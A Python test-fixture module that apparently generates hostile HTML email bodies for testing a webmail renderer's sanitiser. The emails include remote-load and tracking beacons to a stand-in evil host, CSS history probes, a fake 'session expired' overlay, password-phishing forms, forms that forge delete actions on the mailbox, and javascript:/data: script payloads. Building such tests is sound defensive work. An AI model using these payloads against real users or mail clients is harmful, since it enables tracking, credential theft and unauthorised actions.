"""HTML that asks other sites, leads the page away, covers it, or writes in the reader's name."""

from __future__ import annotations

from .hostile_mails import Harm, html_mail
from .payload import EVIL, script


def _at(kind: str, name: str, suffix: str = "gif") -> str:
    return f"{EVIL}/{kind}/{name}.{suffix}"


def _hints(name: str) -> str:
    url = _at("hint", name)
    loads = [f'<link rel="{rel}" href="{url}?{rel}">' for rel in ("prefetch", "prerender", "icon")]
    kinds = ("image", "script", "style", "font", "fetch")
    loads += [f'<link rel=preload as={kind} href="{url}?{kind}">' for kind in kinds]
    return "".join(loads) + (
        f'<link rel=dns-prefetch href="{EVIL}"><link rel=preconnect href="{EVIL}">'
        f'<link rel=modulepreload href="{_at("hint", name, "js")}">'
        f'<link rel=manifest href="{url}"><script type=speculationrules>'
        f'{{"prefetch":[{{"source":"list","urls":["{_at("hint", name, "html")}"]}}]}}</script>'
    )


def _media(name: str) -> str:
    url = _at("media", name)
    return f"""<video poster="{url}?poster" src="{url}?video"></video><audio src="{url}?audio"
autoplay></audio><video><source src="{url}?source"><track default src="{url}?track"></video>
<svg><image href="{url}?svg"/><feImage href="{url}?fe"/><use href="{url}#x"/></svg>
<applet code="{url}?applet"></applet><embed src="{url}?embed"><object data="{url}?object"></object>
"""


def _pictures(name: str) -> str:
    url = _at("picture", name)
    return f"""<img src="{url}?img"><img srcset="{url}?1x 1x, {url}?2x 2x"><img lowsrc="{url}?low"
dynsrc="{url}?dyn"><picture><source srcset="{url}?source"><img></picture><input type=image
src="{url}?input"><img src="//evil.example/picture/{name}.gif?relative"><table background="{url}?t">
<td background="{url}?td">x</table><img src="/pwned/{name}?own"><img src="pwned/{name}?near">"""


def _styles(name: str) -> str:
    url = _at("style", name)
    return f"""<style>@import "{_at("style", name, "css")}";@font-face{{font-family:f;
src:url({url}?font)}}p{{font-family:f;background:url({url}?p);list-style-image:url({url}?list);
cursor:url({url}?cursor),auto;border-image:url({url}?border) 1;
content:image-set("{url}?set" 1x);mask-image:url({url}?mask);filter:url({url}?filter#a)}}
p::before{{content:url({url}?before)}}@namespace url({url}?namespace);</style>
<link rel=stylesheet href="{_at("style", name, "css")}?link"><p style="background:url({url}?own)">x
<style media=print>body{{background:url({url}?print)}}</style>"""


def _probes(name: str) -> str:
    """Reads the page it stands in, and the reader's history, by what matches."""
    url = _at("probe", name)
    return f"""<style>a:visited{{background:url({url}?visited)}}
html:has(input[name]){{background:url({url}?field)}}html:has(form){{list-style:url({url}?form)}}
html:has(a[href*="_mail"]){{border-image:url({url}?link)}}</style>
<a href="/_mail/">x</a><ul><li>y</ul>"""


def _overlay(name: str) -> str:
    return f"""<style>*{{cursor:none}}html,body{{display:block}}header,nav,main>*{{opacity:0}}
#x{{position:fixed;inset:-5000px;width:20000px;height:20000px;z-index:2147483647;
background:#fff}}</style><a id=x href="{_at("link", name, "html")}">Your session has expired</a>
<div popover=manual style="inset:0">p</div><dialog open style="position:fixed;inset:0">d</dialog>"""


def _forms(name: str) -> str:
    url = f"{EVIL}/form/{name}"
    return f"""<form action="{url}" method=post target=_top><input name=password autofocus
value=secret><button>Sign in again</button><input type=submit value=Go></form>
<form id=f><button formaction="{url}" formmethod=post>Continue</button></form>
<button form=f formaction="{url}" formtarget=_blank>Outside</button>
<form action="{url}" target=_blank><button>Window</button></form>
<isindex action="{url}"><form action="mailto:eve@evil.example"><button>Mail</button></form>"""


def _writing(name: str) -> str:
    """The mailbox's own forms, from within the mail."""
    paths = [f"/_mail/{end}" for end in ("delete", "clear", "1/delete", "2/delete", "1/resend")]
    forms = (f'<form method=post action="{path}"><button>{path}</button></form>' for path in paths)
    return "".join(forms) + (
        f'<button form=delete formaction="{EVIL}/form/{name}">Delete</button>'
        '<form method=post action="/written"><button>Write</button></form>'
        '<iframe src="/_mail/"></iframe><img src="/_mail/1/delete">'
    )


def _targets(name: str) -> str:
    url = _at("link", name, "html")
    targets = "_top _parent _self _blank mail body main frame".split()
    links = (f'<a href="{url}?{target}" target="{target}">{target}</a>' for target in targets)
    return " ".join(links) + (
        f' <a href="{url}?opener" target=_blank rel=opener>opener</a>'
        f' <a href="{url}?none">none</a> <a href="{url}?blank" target="">empty</a>'
        f' <map name=m><area shape=rect coords=0,0,99,99 href="{url}?area" target=_top></map>'
        '<img usemap="#m" width=99 height=99 alt="">'
    )


def _inner(name: str) -> str:
    return f"""<iframe src="{_at("frame", name, "html")}"></iframe>
<iframe src="data:text/html,<script>{script(name)}</script>"></iframe>
<object data="{_at("frame", name, "html")}"></object><embed src="{_at("frame", name, "html")}">
<object type="text/html" data="data:text/html,<script>{script(name)}</script>"></object>
<portal src="{_at("frame", name, "html")}"></portal><fencedframe></fencedframe>
<iframe src="/_mail/" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>"""


def _frameset(name: str) -> str:
    return f"""<!doctype html><html><frameset cols="*,*"><frame src="{_at("frame", name, "html")}">
<frame src="javascript:{script(name)}"></frameset></html>"""


def _data_links(name: str) -> str:
    page = f"data:text/html,<script>{script(name)}</script>"
    return f"""<a href="{page}">data</a><a href="{page}" target=_top>top</a>
<a href="{page}" target=_blank>blank</a><a href="{page}" download="a.html">down</a>
<a href="view-source:{EVIL}">source</a><a href="file:///etc/passwd">file</a>
<a href="{_at("link", name, "html")}" download="../../evil.html">save</a>"""


_BODIES: list[tuple[str, Harm, str]] = [
    (
        "go-refresh",
        "leave",
        f'<meta http-equiv="refresh" content="0; url={_at("go", "go-refresh", "html")}">',
    ),
    (
        "go-refresh-data",
        "old",
        '<meta http-equiv="refresh" content="0; url=javascript:'
        f'{script("go-refresh-data")}"><meta http-equiv="set-cookie" content="a=b">',
    ),
    (
        "base-address",
        "request",
        f'<base href="{EVIL}/base/" target=_top><img src="base-address.gif">'
        '<a href="/link/base-address.html">relative</a>',
    ),
    ("frames-inner", "script", _inner("frames-inner")),
    ("frames-frameset", "script", _frameset("frames-frameset")),
    ("load-hints", "request", _hints("load-hints")),
    ("load-media", "request", _media("load-media")),
    ("load-pictures", "request", _pictures("load-pictures")),
    ("load-pixel", "request", f'<img src="{_at("track", "load-pixel")}" width=1 height=1 alt="">'),
    ("style-loads", "request", _styles("style-loads")),
    ("style-probes", "request", _probes("style-probes")),
    ("style-overlay", "cover", _overlay("style-overlay")),
    (
        "style-expression",
        "old",
        f'<p style="width:expression({script("style-expression")});behavior:url({EVIL}/x.htc);'
        f'-moz-binding:url({EVIL}/x.xml#a)">x',
    ),
    ("forms", "leave", _forms("forms")),
    ("forms-writing", "write", _writing("forms-writing")),
    ("links-targets", "leave", _targets("links-targets")),
    (
        "links-ping",
        "request",
        f'<a href="#" ping="{EVIL}/ping/links-ping">Unsubscribe</a><p id="">',
    ),
    ("links-data", "old", _data_links("links-data")),
]
PAGES = tuple(html_mail(*body) for body in _BODIES)
